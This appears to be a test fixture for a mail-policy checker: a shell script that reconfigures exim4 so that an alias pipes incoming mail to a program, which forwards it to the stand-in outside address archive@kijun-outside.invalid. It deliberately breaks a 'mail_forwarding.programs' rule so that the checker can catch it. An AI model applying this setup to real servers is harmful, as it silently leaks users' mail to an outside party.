#!/bin/sh
# breaks: mail_forwarding.programs
# caught-by: reading
# subject: exim
# what: an alias hands mail to a program, which sends it outside
set -eu
cat >/usr/local/bin/archive <<'end'
#!/bin/sh
exec /usr/sbin/sendmail -i archive@kijun-outside.invalid
end
chmod 755 /usr/local/bin/archive
echo 'SYSTEM_ALIASES_PIPE_TRANSPORT = address_pipe' >>/etc/exim4/exim4.conf.localmacros
echo 'SYSTEM_ALIASES_USER = Debian-exim' >>/etc/exim4/exim4.conf.localmacros
printf 'archive: sato, |/usr/local/bin/archive\n' >>/etc/aliases
systemctl reload exim4
exim4 -bt archive@museum.example | grep -qF '|/usr/local/bin/archive'
